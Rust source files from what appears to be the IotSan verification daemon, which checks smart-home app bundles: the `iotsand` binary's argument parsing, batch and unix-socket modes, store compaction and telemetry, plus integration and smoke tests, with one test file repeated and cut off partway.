    }

    #[test]
    fn cancel_all_stops_inflight_and_queued_jobs() {
        let path = temp_store("cancel");
        let mut daemon = Daemon::start(DaemonConfig {
            workers: 1, // serialize, so the second job is queued while the first runs
            ..DaemonConfig::new(&path)
        })
        .unwrap();
        // A search this deep runs for many seconds before any default cap
        // fires; the timeout is only a backstop should cancellation break.
        let slow = JobSpec {
            id: "slow".into(),
            bundle: BundleSpec::Market(8),
            events: 8,
            workers: 1,
            failures: true,
            timeout_ms: Some(120_000),
            inject_panic: false,
        };
        let queued = market_job("queued", 2);

        let inner = Arc::clone(&daemon.inner);
        let canceller = std::thread::spawn(move || {
            // Wait until the slow job has registered its token (it is then
            // mid-search), cancel it, and drain the still-queued job.
            let deadline = Instant::now() + Duration::from_secs(30);
            while inner.active.lock().unwrap().is_empty() && Instant::now() < deadline {
                std::thread::sleep(Duration::from_millis(5));
            }
            std::thread::sleep(Duration::from_millis(50));
            for (_, token) in inner.active.lock().unwrap().iter() {
                token.cancel();
            }
            for (index, spec) in inner.queue.drain() {
                let _ = inner.results.send(cancelled_outcome(index, spec));
            }
        });
        let started = Instant::now();
        let outcomes = daemon.run_batch(vec![slow, queued]);
        canceller.join().unwrap();
        assert!(started.elapsed() < Duration::from_secs(30));
        assert_eq!(outcomes.len(), 2);
        assert_eq!(outcomes[0].status, JobStatus::Cancelled);
        assert!(outcomes[0]
            .report
            .as_ref()
            .is_some_and(|r| r.groups.iter().any(|g| g.report.stats.truncated)));
        assert_eq!(outcomes[1].status, JobStatus::Cancelled);
        assert!(outcomes[1].report.is_none());
        daemon.shutdown().unwrap();
    }

    #[test]
    fn render_produces_one_json_line() {
        let path = temp_store("render");
        let mut daemon = start(&path);
        let outcomes = daemon.run_batch(vec![market_job("r1", 2)]);
        let line = outcomes[0].render();
        assert!(line.starts_with("{\"id\":\"r1\",\"status\":\"ok\""), "{line}");
        assert!(line.contains("\"cache_misses\""), "{line}");
        assert!(!line.contains('\n'));
        // The line is valid JSON by our own vendored parser.
        assert!(serde_json::from_str::<serde_json::Value>(&line).is_ok());
        daemon.shutdown().unwrap();
    }
}
