//! `iotsand` — the IotSan verification daemon.
//!
//! Ingests newline-delimited JSON verification jobs (from a file, stdin or a
//! unix socket), verifies them over a durable verdict store, and emits one
//! NDJSON result line per job on stdout.  See `OPERATIONS.md` for the
//! operator's handbook.
//!
//! Exit codes distinguish the failure surface for supervisors:
//! `0` success, `1` runtime failure (I/O mid-run, compaction error),
//! `2` usage error (bad flags), `3` the verdict store could not be opened.

use iotsan_daemon::{
    load_quarantine, parse_line, quarantine_sidecar_path, Daemon, DaemonConfig, JobLine,
    JobOutcome, JobStatus, Recovery, RetryPolicy, StoreOptions, VerdictStore,
};
use iotsan_telemetry::flight::{self, EventCode, Level};
use iotsan_telemetry::rows::JsonRow;
use iotsan_telemetry::DESCRIPTORS;
use std::io::{BufRead, Write};
use std::path::PathBuf;
use std::process::ExitCode;

const HELP: &str = "\
iotsand — IotSan verification daemon

USAGE:
    iotsand --store PATH (--jobs FILE | --listen SOCKET | --compact | --status) [OPTIONS]

MODES (exactly one):
    --jobs FILE          Batch mode: read NDJSON jobs from FILE ('-' = stdin),
                         print one NDJSON result line per job to stdout, exit.
    --listen SOCKET      Serve jobs over a unix domain socket, one NDJSON job
                         per line, results echoed back on the same connection.
                         A {\"op\":\"shutdown\"} line stops the daemon.
    --compact            Rewrite the verdict store, dropping superseded and
                         evicted records, then exit.
    --status             Print the store's recovery verdict, record counts and
                         quarantined job classes, then exit.

OPTIONS:
    --store PATH         Path of the append-only verdict log (required).
    --workers N          Worker threads verifying jobs concurrently [default: 2].
    --queue N            Bounded job-queue capacity [default: 64].
    --max-entries N      Evict oldest verdicts beyond N live entries.
    --compact-after N    Auto-compact once N dead records accumulate.
    --retry-attempts N   Attempts before a panicking job class is quarantined
                         [default: 3].
    --retry-base-ms N    Base delay for retry backoff, doubling per failure
                         [default: 25].
    --log-level LEVEL    Minimum severity rendered to stderr: debug, info,
                         warn or error [default: warn].
    --metrics-snapshot PATH
                         On exit, write the final telemetry snapshot (one
                         JSON row of every metric) to PATH.
    --enable-fault-injection
                         Honor the `inject_panic` job field (testing only;
                         otherwise such jobs are rejected as invalid).
    -h, --help           Print this help.

EXIT CODES:
    0  success
    1  runtime failure (I/O error mid-run, failed compaction, ...)
    2  usage error (unknown or malformed arguments)
    3  the verdict store could not be opened

JOB FORMAT (one JSON object per line):
    {\"id\":\"batch-1\",\"market\":8,\"events\":3,\"failures\":true}
    {\"id\":\"batch-2\",\"names\":[\"Unlock Door\"],\"timeout_ms\":60000}
    {\"op\":\"shutdown\"}

Exactly one of `market` (first n corpus apps), `names` (corpus apps by name)
or `sources` (inline Groovy) selects the bundle.  Optional: `events` (event
bound, default 2), `workers` (checker threads, default 1), `failures`
(failure injection, default false), `timeout_ms` (wall-clock budget),
`inject_panic` (panic mid-verification; needs --enable-fault-injection).

CONTROL OPS (one JSON object per line):
    {\"op\":\"shutdown\"}   Stop accepting work and exit.
    {\"op\":\"metrics\"}    Answer with one JSON row of every telemetry metric
                        (in --jobs mode: after the batch completes).
    {\"op\":\"flight\"}     Answer with the flight recorder's retained events.
";

/// A failure with the exit code it maps to.
enum Failure {
    /// Bad command line (exit 2).
    Usage(String),
    /// The verdict store could not be opened (exit 3).
    Store(String),
    /// Anything that went wrong after startup (exit 1).
    Runtime(String),
}

impl Failure {
    fn code(&self) -> ExitCode {
        match self {
            Failure::Runtime(_) => ExitCode::from(1),
            Failure::Usage(_) => ExitCode::from(2),
            Failure::Store(_) => ExitCode::from(3),
        }
    }

    fn message(&self) -> &str {
        match self {
            Failure::Usage(m) | Failure::Store(m) | Failure::Runtime(m) => m,
        }
    }
}

fn runtime(e: impl std::fmt::Display) -> Failure {
    Failure::Runtime(e.to_string())
}

#[derive(Debug, Default)]
struct Args {
    store: Option<PathBuf>,
    jobs: Option<String>,
    listen: Option<PathBuf>,
    compact: bool,
    status: bool,
    workers: usize,
    queue: usize,
    max_entries: Option<usize>,
    compact_after: Option<usize>,
    retry_attempts: u32,
    retry_base_ms: u64,
    log_level: Option<Level>,
    metrics_snapshot: Option<PathBuf>,
    fault_injection: bool,
}

fn parse_args(argv: &[String]) -> Result<Option<Args>, String> {
    let defaults = RetryPolicy::default();
    let mut args = Args {
        workers: 2,
        queue: 64,
        retry_attempts: defaults.max_attempts,
        retry_base_ms: defaults.base_delay_ms,
        ..Args::default()
    };
    let mut iter = argv.iter();
    let value = |iter: &mut std::slice::Iter<'_, String>, flag: &str| {
        iter.next().cloned().ok_or_else(|| format!("{flag} needs a value"))
    };
    while let Some(arg) = iter.next() {
        match arg.as_str() {
            "-h" | "--help" => return Ok(None),
            "--store" => args.store = Some(PathBuf::from(value(&mut iter, "--store")?)),
            "--jobs" => args.jobs = Some(value(&mut iter, "--jobs")?),
            "--listen" => args.listen = Some(PathBuf::from(value(&mut iter, "--listen")?)),
            "--compact" => args.compact = true,
            "--status" => args.status = true,
            "--workers" => {
                args.workers = parse_count(&value(&mut iter, "--workers")?, "--workers")?
            }
            "--queue" => args.queue = parse_count(&value(&mut iter, "--queue")?, "--queue")?,
            "--max-entries" => {
                args.max_entries =
                    Some(parse_count(&value(&mut iter, "--max-entries")?, "--max-entries")?)
            }
            "--compact-after" => {
                args.compact_after =
                    Some(parse_count(&value(&mut iter, "--compact-after")?, "--compact-after")?)
            }
            "--retry-attempts" => {
                args.retry_attempts =
                    parse_count(&value(&mut iter, "--retry-attempts")?, "--retry-attempts")? as u32
            }
            "--retry-base-ms" => {
                args.retry_base_ms =
                    parse_count(&value(&mut iter, "--retry-base-ms")?, "--retry-base-ms")? as u64
            }
            "--log-level" => {
                let raw = value(&mut iter, "--log-level")?;
                args.log_level = Some(Level::parse(&raw).ok_or_else(|| {
                    format!("--log-level must be debug, info, warn or error, got `{raw}`")
                })?);
            }
            "--metrics-snapshot" => {
                args.metrics_snapshot = Some(PathBuf::from(value(&mut iter, "--metrics-snapshot")?))
            }
            "--enable-fault-injection" => args.fault_injection = true,
            other => return Err(format!("unknown argument `{other}` (try --help)")),
        }
    }
    let modes = [args.jobs.is_some(), args.listen.is_some(), args.compact, args.status];
    match modes.iter().filter(|m| **m).count() {
        0 => return Err("pick a mode: --jobs, --listen, --compact or --status".into()),
        1 => {}
        _ => return Err("--jobs, --listen, --compact and --status are mutually exclusive".into()),
    }
    if args.store.is_none() {
        return Err("--store PATH is required".into());
    }
    Ok(Some(args))
}

fn parse_count(raw: &str, flag: &str) -> Result<usize, String> {
    raw.parse::<usize>().map_err(|_| format!("{flag} needs a non-negative integer, got `{raw}`"))
}

fn store_options(args: &Args) -> StoreOptions {
    StoreOptions { max_entries: args.max_entries, compact_after_dead: args.compact_after }
}

fn daemon_config(args: &Args) -> DaemonConfig {
    DaemonConfig {
        store_path: args.store.clone().expect("checked by parse_args"),
        store_options: store_options(args),
        workers: args.workers,
        queue_capacity: args.queue,
        retry: RetryPolicy { max_attempts: args.retry_attempts, base_delay_ms: args.retry_base_ms },
        fault_plan: None,
        fault_injection: args.fault_injection,
    }
}

fn describe_recovery(recovery: &Recovery) -> String {
    match recovery {
        Recovery::Fresh => "fresh store (no previous log)".into(),
        Recovery::Clean { records } => format!("clean recovery: {records} records replayed"),
        Recovery::CorruptTail { records, dropped_bytes } => format!(
            "corrupt tail: {records} records replayed, {dropped_bytes} trailing bytes dropped"
        ),
        Recovery::Discarded { reason } => format!("store discarded and restarted: {reason:?}"),
    }
}

/// The one-line JSON response to `{"op":"metrics"}`: the current snapshot
/// of every registered metric.
fn metrics_line() -> String {
    iotsan_telemetry::snapshot().render_json()
}

/// The one-line JSON response to `{"op":"flight"}`: the flight recorder's
/// retained events, oldest first.
fn flight_line() -> String {
    let rendered: Vec<String> = flight::events().iter().map(|e| e.render()).collect();
    JsonRow::new()
        .num_u("recorded", flight::recorded())
        .num_u("retained", rendered.len() as u64)
        .strs("events", &rendered)
        .finish()
}

/// Records a binary-level diagnostic (startup, shutdown summary) through
/// the flight recorder; `--log-level info` makes them visible on stderr.
fn diagnostic(level: Level, detail: &str) {
    flight::record(level, EventCode::Diagnostic, detail);
}

fn run_batch_mode(args: &Args) -> Result<(), Failure> {
    let mut daemon = Daemon::start(daemon_config(args))
        .map_err(|e| Failure::Store(format!("cannot open verdict store: {e}")))?;
    diagnostic(Level::Info, &describe_recovery(&daemon.recovery()));

    let jobs_arg = args.jobs.as_deref().expect("batch mode");
    let raw = if jobs_arg == "-" {
        let mut buffer = String::new();
        std::io::Read::read_to_string(&mut std::io::stdin().lock(), &mut buffer)
            .map_err(|e| runtime(format!("cannot read stdin: {e}")))?;
        buffer
    } else {
        std::fs::read_to_string(jobs_arg)
            .map_err(|e| runtime(format!("cannot read {jobs_arg}: {e}")))?
    };

    let mut specs = Vec::new();
    let mut invalid: Vec<JobOutcome> = Vec::new();
    let mut want_metrics = false;
    let mut want_flight = false;
    for (number, line) in raw.lines().enumerate() {
        if line.trim().is_empty() {
            continue;
        }
        match parse_line(line, number + 1) {
            Ok(JobLine::Job(spec)) => specs.push(spec),
            Ok(JobLine::Shutdown) => break, // stop ingesting; run what we have
            // In batch mode the telemetry ops answer after the batch, when
            // the counters actually reflect the submitted work.
            Ok(JobLine::Metrics) => want_metrics = true,
            Ok(JobLine::Flight) => want_flight = true,
            Err(error) => invalid.push(JobOutcome {
                index: usize::MAX,
                id: format!("line-{}", number + 1),
                status: JobStatus::Invalid(error),
                report: None,
                backing_hits: 0,
                degraded: false,
                elapsed: std::time::Duration::ZERO,
            }),
        }
    }

    let stdout = std::io::stdout();
    let mut out = stdout.lock();
    for outcome in &invalid {
        writeln!(out, "{}", outcome.render()).map_err(runtime)?;
    }
    let outcomes = daemon.run_batch(specs);
    for outcome in &outcomes {
        writeln!(out, "{}", outcome.render()).map_err(runtime)?;
    }
    if want_metrics {
        writeln!(out, "{}", metrics_line()).map_err(runtime)?;
    }
    if want_flight {
        writeln!(out, "{}", flight_line()).map_err(runtime)?;
    }
    out.flush().map_err(runtime)?;

    let summary = daemon.shutdown().map_err(|e| runtime(format!("shutdown failed: {e}")))?;
    diagnostic(
        Level::Info,
        &format!(
            "{} jobs done ({} rejected, {} quarantined{}); cache {} hits / {} misses, \
             {} from disk; store holds {} verdicts in {} records",
            outcomes.len(),
            invalid.len(),
            summary.quarantined,
            if summary.degraded { ", store DEGRADED" } else { "" },
            summary.cache_hits,
            summary.cache_misses,
            summary.backing_hits,
            summary.store_entries,
            summary.store_records,
        ),
    );
    Ok(())
}

#[cfg(unix)]
fn run_listen_mode(args: &Args) -> Result<(), Failure> {
    use std::os::unix::net::UnixListener;

    let socket = args.listen.clone().expect("listen mode");
    let _ = std::fs::remove_file(&socket);
    let listener = UnixListener::bind(&socket)
        .map_err(|e| runtime(format!("cannot bind {}: {e}", socket.display())))?;

    let mut daemon = Daemon::start(daemon_config(args))
        .map_err(|e| Failure::Store(format!("cannot open verdict store: {e}")))?;
    diagnostic(Level::Info, &describe_recovery(&daemon.recovery()));
    diagnostic(Level::Info, &format!("listening on {}", socket.display()));

    'serve: for stream in listener.incoming() {
        let stream = match stream {
            Ok(stream) => stream,
            Err(e) => {
                diagnostic(Level::Warn, &format!("accept failed: {e}"));
                continue;
            }
        };
        let reader = std::io::BufReader::new(
            stream.try_clone().map_err(|e| runtime(format!("cannot clone socket stream: {e}")))?,
        );
        let mut writer = stream;
        for (number, line) in reader.lines().enumerate() {
            let line = match line {
                Ok(line) => line,
                Err(_) => break, // client hung up mid-line
            };
            if line.trim().is_empty() {
                continue;
            }
            let response = match parse_line(&line, number + 1) {
                Ok(JobLine::Shutdown) => {
                    let _ = writeln!(writer, "{{\"status\":\"shutting-down\"}}");
                    break 'serve;
                }
                Ok(JobLine::Metrics) => metrics_line(),
                Ok(JobLine::Flight) => flight_line(),
                Ok(JobLine::Job(spec)) => {
                    let outcomes = daemon.run_batch(vec![spec]);
                    outcomes.first().map(JobOutcome::render).unwrap_or_default()
                }
                Err(error) => format!(
                    "{{\"status\":\"invalid\",\"error\":\"{}\"}}",
                    error.replace('\\', "\\\\").replace('"', "\\\"")
                ),
            };
            if writeln!(writer, "{response}").is_err() {
                break; // client hung up; keep serving others
            }
        }
    }

    let summary = daemon.shutdown().map_err(|e| runtime(format!("shutdown failed: {e}")))?;
    let _ = std::fs::remove_file(&socket);
    diagnostic(
        Level::Info,
        &format!(
            "shut down after {} jobs ({} quarantined{}); cache {} hits / {} misses, \
             {} from disk",
            summary.jobs,
            summary.quarantined,
            if summary.degraded { ", store DEGRADED" } else { "" },
            summary.cache_hits,
            summary.cache_misses,
            summary.backing_hits,
        ),
    );
    Ok(())
}

#[cfg(not(unix))]
fn run_listen_mode(_args: &Args) -> Result<(), Failure> {
    Err(Failure::Usage("--listen requires unix domain sockets; use --jobs on this platform".into()))
}

fn run_compact_mode(args: &Args) -> Result<(), Failure> {
    let path = args.store.as_ref().expect("checked by parse_args");
    let mut store = VerdictStore::open_with(path, store_options(args))
        .map_err(|e| Failure::Store(format!("cannot open verdict store: {e}")))?;
    diagnostic(Level::Info, &describe_recovery(store.recovery()));
    let stats = store.compact().map_err(|e| runtime(format!("compaction failed: {e}")))?;
    println!(
        "compacted {}: {} -> {} records, {} -> {} bytes",
        path.display(),
        stats.records_before,
        stats.records_after,
        stats.bytes_before,
        stats.bytes_after,
    );
    Ok(())
}

fn run_status_mode(args: &Args) -> Result<(), Failure> {
    let path = args.store.as_ref().expect("checked by parse_args");
    let store = VerdictStore::open_with(path, store_options(args))
        .map_err(|e| Failure::Store(format!("cannot open verdict store: {e}")))?;
    println!("store:        {}", path.display());
    println!("recovery:     {}", describe_recovery(store.recovery()));
    println!("live entries: {}", store.len());
    println!("log records:  {} ({} dead)", store.records(), store.dead_records());
    println!("log bytes:    {}", store.file_bytes().map_err(runtime)?);
    let quarantined = load_quarantine(&quarantine_sidecar_path(path));
    println!("quarantined:  {} job class(es)", quarantined.len());
    for (fingerprint, entry) in &quarantined {
        println!(
            "  {fingerprint:016x}: {} attempt(s), last panic: {}",
            entry.attempts, entry.last_message
        );
    }
    // The telemetry surface: what this process's registry recorded while
    // opening the store (recoveries, corrupt tails), plus its shape.
    let snap = iotsan_telemetry::snapshot();
    println!(
        "telemetry:    {} metric(s) registered, {} flight event(s) retained",
        DESCRIPTORS.len(),
        flight::events().len()
    );
    println!(
        "  store opens replayed: {}, corrupt/discarded logs: {}",
        snap.counter("iotsan_store_recoveries_total"),
        snap.counter("iotsan_store_corrupt_tails_total"),
    );
    Ok(())
}

fn main() -> ExitCode {
    let argv: Vec<String> = std::env::args().skip(1).collect();
    let args = match parse_args(&argv) {
        Ok(Some(args)) => args,
        Ok(None) => {
            print!("{HELP}");
            return ExitCode::SUCCESS;
        }
        Err(error) => {
            eprintln!("iotsand: {error}");
            return Failure::Usage(error).code();
        }
    };
    if let Some(level) = args.log_level {
        flight::set_stderr_level(level);
    }
    let result = if args.jobs.is_some() {
        run_batch_mode(&args)
    } else if args.listen.is_some() {
        run_listen_mode(&args)
    } else if args.compact {
        run_compact_mode(&args)
    } else {
        run_status_mode(&args)
    };
    // The dump-on-shutdown snapshot, whatever mode ran and however it went.
    if let Some(path) = &args.metrics_snapshot {
        if let Err(e) = std::fs::write(path, metrics_line() + "\n") {
            eprintln!("iotsand: cannot write metrics snapshot {}: {e}", path.display());
        }
    }
    match result {
        Ok(()) => ExitCode::SUCCESS,
        Err(failure) => {
            eprintln!("iotsand: {}", failure.message());
            failure.code()
        }
    }
}
