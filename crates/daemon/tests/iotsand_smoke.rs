//! End-to-end smoke test of the `iotsand` binary: batch-ingest a job file
//! twice across a process restart and check the second run is served from
//! the durable verdict store with identical verdicts.

use std::path::PathBuf;
use std::process::Command;

fn temp_dir(name: &str) -> PathBuf {
    let dir = std::env::temp_dir().join(format!("iotsand-smoke-{}-{name}", std::process::id()));
    let _ = std::fs::remove_dir_all(&dir);
    std::fs::create_dir_all(&dir).unwrap();
    dir
}

fn iotsand() -> Command {
    Command::new(env!("CARGO_BIN_EXE_iotsand"))
}

/// Pulls the integer value of `"key":N` out of a rendered NDJSON line.
fn field(line: &str, key: &str) -> u64 {
    let marker = format!("\"{key}\":");
    let start = line.find(&marker).unwrap_or_else(|| panic!("no {key} in {line}")) + marker.len();
    line[start..].chars().take_while(|c| c.is_ascii_digit()).collect::<String>().parse().unwrap()
}

#[test]
fn help_prints_usage_and_exits_cleanly() {
    let output = iotsand().arg("--help").output().unwrap();
    assert!(output.status.success());
    let text = String::from_utf8(output.stdout).unwrap();
    assert!(text.contains("USAGE"), "{text}");
    assert!(text.contains("--store"), "{text}");
    assert!(text.contains("JOB FORMAT"), "{text}");
}

#[test]
fn rejects_unknown_flags_and_missing_modes() {
    let output = iotsand().arg("--bogus").output().unwrap();
    assert!(!output.status.success());
    let output = iotsand().args(["--store", "/tmp/x"]).output().unwrap();
    assert!(!output.status.success());
}

#[test]
fn batch_restart_serves_warm_verdicts_from_disk() {
    let dir = temp_dir("warm");
    let store = dir.join("verdicts.log");
    let jobs = dir.join("jobs.ndjson");
    std::fs::write(
        &jobs,
        "{\"id\":\"market\",\"market\":4}\n\
         \n\
         {\"id\":\"named\",\"names\":[\"Unlock Door\"]}\n\
         {\"id\":\"broken\",\"events\":2}\n",
    )
    .unwrap();

    let run = |label: &str| {
        let output = iotsand()
            .args(["--store", store.to_str().unwrap(), "--jobs", jobs.to_str().unwrap()])
            .output()
            .unwrap();
        assert!(
            output.status.success(),
            "{label} failed: {}",
            String::from_utf8_lossy(&output.stderr)
        );
        String::from_utf8(output.stdout).unwrap()
    };

    let cold = run("cold run");
    let cold_lines: Vec<&str> = cold.lines().collect();
    assert_eq!(cold_lines.len(), 3, "{cold}");
    // The malformed line is rejected up front, the two jobs verify cold.
    assert!(cold_lines[0].contains("\"status\":\"invalid\""), "{cold}");
    assert!(cold_lines[0].contains("exactly one"), "{cold}");
    for line in &cold_lines[1..] {
        assert!(line.contains("\"status\":\"ok\""), "{line}");
        assert_eq!(field(line, "backing_hits"), 0, "{line}");
        assert!(field(line, "cache_misses") > 0, "{line}");
    }

    // Same jobs, new process: every group replays from the on-disk store.
    let warm = run("warm run");
    let warm_lines: Vec<&str> = warm.lines().collect();
    assert_eq!(warm_lines.len(), 3, "{warm}");
    for (cold_line, warm_line) in cold_lines[1..].iter().zip(&warm_lines[1..]) {
        assert!(warm_line.contains("\"status\":\"ok\""), "{warm_line}");
        assert_eq!(field(warm_line, "cache_misses"), 0, "{warm_line}");
        assert_eq!(field(warm_line, "backing_hits"), field(warm_line, "groups"), "{warm_line}");
        // The verdicts themselves are identical to the cold run's.
        for key in ["groups", "violations", "violated_properties"] {
            let marker = format!("\"{key}\":");
            let extract = |line: &str| {
                let start = line.find(&marker).unwrap() + marker.len();
                line[start..].split(',').next().unwrap().to_string()
            };
            assert_eq!(extract(cold_line), extract(warm_line), "{key} drifted");
        }
    }
}

#[test]
fn batch_mode_answers_metrics_and_flight_after_the_batch() {
    let dir = temp_dir("metrics");
    let store = dir.join("verdicts.log");
    let jobs = dir.join("jobs.ndjson");
    std::fs::write(
        &jobs,
        "{\"id\":\"m\",\"market\":2}\n{\"op\":\"metrics\"}\n{\"op\":\"flight\"}\n",
    )
    .unwrap();
    let snapshot_path = dir.join("final.json");
    let output = iotsand()
        .args([
            "--store",
            store.to_str().unwrap(),
            "--jobs",
            jobs.to_str().unwrap(),
            "--metrics-snapshot",
            snapshot_path.to_str().unwrap(),
        ])
        .output()
        .unwrap();
    assert!(output.status.success(), "{}", String::from_utf8_lossy(&output.stderr));
    let text = String::from_utf8(output.stdout).unwrap();
    let lines: Vec<&str> = text.lines().collect();
    assert_eq!(lines.len(), 3, "{text}");
    assert!(lines[0].contains("\"status\":\"ok\""), "{text}");

    // The metrics row answers after the batch, so the job's work is visible
    // across every instrumented family.
    let metrics = lines[1];
    assert_eq!(field(metrics, "iotsan_daemon_jobs_accepted_total"), 1, "{metrics}");
    assert_eq!(field(metrics, "iotsan_daemon_jobs_completed_total"), 1, "{metrics}");
    assert!(field(metrics, "iotsan_checker_searches_total") >= 1, "{metrics}");
    assert!(field(metrics, "iotsan_cache_misses_total") >= 1, "{metrics}");
    assert!(field(metrics, "iotsan_store_appends_total") >= 1, "{metrics}");

    // The flight row reports ring occupancy alongside the rendered events.
    assert!(field(lines[2], "recorded") >= 1, "{}", lines[2]);
    assert!(lines[2].contains("\"events\":"), "{}", lines[2]);

    // --metrics-snapshot dumped the same schema on shutdown.
    let snap = std::fs::read_to_string(&snapshot_path).unwrap();
    assert_eq!(field(&snap, "iotsan_daemon_jobs_completed_total"), 1, "{snap}");
}

#[test]
fn log_level_gates_lifecycle_diagnostics_on_stderr() {
    let dir = temp_dir("loglevel");
    let jobs = dir.join("jobs.ndjson");
    std::fs::write(&jobs, "{\"id\":\"quiet\",\"market\":2}\n").unwrap();

    let run = |store: &str, extra: &[&str]| {
        let store = dir.join(store);
        let mut cmd = iotsand();
        cmd.args(["--store", store.to_str().unwrap(), "--jobs", jobs.to_str().unwrap()]);
        cmd.args(extra);
        let output = cmd.output().unwrap();
        assert!(output.status.success(), "{}", String::from_utf8_lossy(&output.stderr));
        String::from_utf8(output.stderr).unwrap()
    };

    // Default (warn): lifecycle chatter stays off stderr.
    let quiet = run("quiet.log", &[]);
    assert!(!quiet.contains("iotsan: debug"), "{quiet}");
    assert!(!quiet.contains("iotsan: info"), "{quiet}");

    // Debug: job and store lifecycle events render as structured lines.
    let verbose = run("verbose.log", &["--log-level", "debug"]);
    assert!(verbose.contains("iotsan: debug job_accepted"), "{verbose}");
    assert!(verbose.contains("iotsan: debug store_append"), "{verbose}");
    assert!(verbose.contains("iotsan: info"), "{verbose}");

    // An unknown level is a usage error.
    let store = dir.join("bad.log");
    let bad = iotsand()
        .args([
            "--store",
            store.to_str().unwrap(),
            "--jobs",
            jobs.to_str().unwrap(),
            "--log-level",
            "loud",
        ])
        .output()
        .unwrap();
    assert!(!bad.status.success());
}

#[test]
fn status_and_compact_modes_report_the_store() {
    let dir = temp_dir("status");
    let store = dir.join("verdicts.log");
    let jobs = dir.join("jobs.ndjson");
    std::fs::write(&jobs, "{\"id\":\"a\",\"market\":2}\n{\"id\":\"b\",\"market\":2}\n").unwrap();
    let output = iotsand()
        .args(["--store", store.to_str().unwrap(), "--jobs", jobs.to_str().unwrap()])
        .output()
        .unwrap();
    assert!(output.status.success());

    let status = iotsand().args(["--store", store.to_str().unwrap(), "--status"]).output().unwrap();
    assert!(status.status.success());
    let text = String::from_utf8(status.stdout).unwrap();
    assert!(text.contains("live entries:"), "{text}");
    assert!(text.contains("clean recovery"), "{text}");

    let compact =
        iotsand().args(["--store", store.to_str().unwrap(), "--compact"]).output().unwrap();
    assert!(compact.status.success());
    let text = String::from_utf8(compact.stdout).unwrap();
    assert!(text.contains("compacted"), "{text}");
}

#[cfg(unix)]
#[test]
fn listen_mode_serves_jobs_over_a_unix_socket() {
    use std::io::{BufRead, BufReader, Write};
    use std::os::unix::net::UnixStream;
    use std::time::{Duration, Instant};

    let dir = temp_dir("listen");
    let store = dir.join("verdicts.log");
    let socket = dir.join("iotsand.sock");

    let mut daemon = iotsand()
        .args(["--store", store.to_str().unwrap(), "--listen", socket.to_str().unwrap()])
        .spawn()
        .unwrap();

    // Wait for the socket to appear.
    let deadline = Instant::now() + Duration::from_secs(30);
    let stream = loop {
        match UnixStream::connect(&socket) {
            Ok(stream) => break stream,
            Err(_) if Instant::now() < deadline => std::thread::sleep(Duration::from_millis(20)),
            Err(e) => panic!("socket never came up: {e}"),
        }
    };
    let mut reader = BufReader::new(stream.try_clone().unwrap());
    let mut writer = stream;

    writeln!(writer, "{{\"id\":\"sock\",\"market\":2}}").unwrap();
    let mut response = String::new();
    reader.read_line(&mut response).unwrap();
    assert!(response.contains("\"status\":\"ok\""), "{response}");

    // The live observability surface: one snapshot row, one flight row.
    writeln!(writer, "{{\"op\":\"metrics\"}}").unwrap();
    let mut metrics = String::new();
    reader.read_line(&mut metrics).unwrap();
    assert_eq!(field(&metrics, "iotsan_daemon_jobs_completed_total"), 1, "{metrics}");
    assert!(field(&metrics, "iotsan_checker_searches_total") >= 1, "{metrics}");

    writeln!(writer, "{{\"op\":\"flight\"}}").unwrap();
    let mut flight = String::new();
    reader.read_line(&mut flight).unwrap();
    assert!(flight.contains("\"events\":"), "{flight}");

    writeln!(writer, "{{\"op\":\"shutdown\"}}").unwrap();
    let mut ack = String::new();
    reader.read_line(&mut ack).unwrap();
    assert!(ack.contains("shutting-down"), "{ack}");

    let status = daemon.wait().unwrap();
    assert!(status.success());
    assert!(!socket.exists(), "socket file should be removed on shutdown");
}
