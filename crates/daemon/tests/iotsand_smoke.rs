//! End-to-end smoke test of the `iotsand` binary: batch-ingest a job file
//! twice across a process restart and check the second run is served from
//! the durable verdict store with identical verdicts.

use std::path::PathBuf;
use std::process::Command;

fn temp_dir(name: &str) -> PathBuf {
    let dir = std::env::temp_dir().join(format!("iotsand-smoke-{}-{name}", std::process::id()));
    let _ = std::fs::remove_dir_all(&dir);
    std::fs::create_dir_all(&dir).unwrap();
    dir
}

fn iotsand() -> Command {
    Command::new(env!("CARGO_BIN_EXE_iotsand"))
}

/// Pulls the integer value of `"key":N` out of a rendered NDJSON line.
fn field(line: &str, key: &str) -> u64 {
    let marker = format!("\"{key}\":");
    let start = line.find(&marker).unwrap_or_else(|| panic!("no {key} in {line}")) + marker.len();
    line[start..].chars().take_while(|c| c.is_ascii_digit()).collect::<String>().parse().unwrap()
}

#[test]
fn help_prints_usage_and_exits_cleanly() {
    let output = iotsand().arg("--help").output().unwrap();
    assert!(output.status.success());
    let text = String::from_utf8(output.stdout).unwrap();
    assert!(text.contains("USAGE"), "{text}");
    assert!(text.contains("--store"), "{text}");
    assert!(text.contains("JOB FORMAT"), "{text}");
}

#[test]
fn rejects_unknown_flags_and_missing_modes() {
    let output = iotsand().arg("--bogus").output().unwrap();
    assert!(!output.status.success());
    let output = iotsand().args(["--store", "/tmp/x"]).output().unwrap();
    assert!(!output.status.success());
}

#[test]
fn batch_restart_serves_warm_verdicts_from_disk() {
    let dir = temp_dir("warm");
    let store = dir.join("verdicts.log");
    let jobs = dir.join("jobs.ndjson");
    std::fs::write(
        &jobs,
        "{\"id\":\"market\",\"market\":4}\n\
         \n\
         {\"id\":\"named\",\"names\":[\"Unlock Door\"]}\n\
         {\"id\":\"broken\",\"events\":2}\n",
    )
    .unwrap();

    let run = |label: &str| {
        let output = iotsand()
            .args(["--store", store.to_str().unwrap(), "--jobs", jobs.to_str().unwrap()])
            .output()
            .unwrap();
        assert!(
            output.status.success(),
            "{label} failed: {}",
            String::from_utf8_lossy(&output.stderr)
        );
        String::from_utf8(output.stdout).unwrap()
    };

    let cold = run("cold run");
    let cold_lines: Vec<&str> = cold.lines().collect();
    assert_eq!(cold_lines.len(), 3, "{cold}");
    // The malformed line is rejected up front, the two jobs verify cold.
    assert!(cold_lines[0].contains("\"status\":\"invalid\""), "{cold}");
    assert!(cold_lines[0].contains("exactly one"), "{cold}");
    for line in &cold_lines[1..] {
        assert!(line.contains("\"status\":\"ok\""), "{line}");
        assert_eq!(field(line, "backing_hits"), 0, "{line}");
        assert!(field(line, "cache_misses") > 0, "{line}");
    }

    // Same jobs, new process: every group replays from the on-disk store.
    let warm = run("warm run");
    let warm_lines: Vec<&str> = warm.lines().collect();
    assert_eq!(warm_lines.len(), 3, "{warm}");
    for (cold_line, warm_line) in cold_lines[1..].iter().zip(&warm_lines[1..]) {
        assert!(warm_line.contains("\"status\":\"ok\""), "{warm_line}");
        assert_eq!(field(warm_line, "cache_misses"), 0, "{warm_line}");
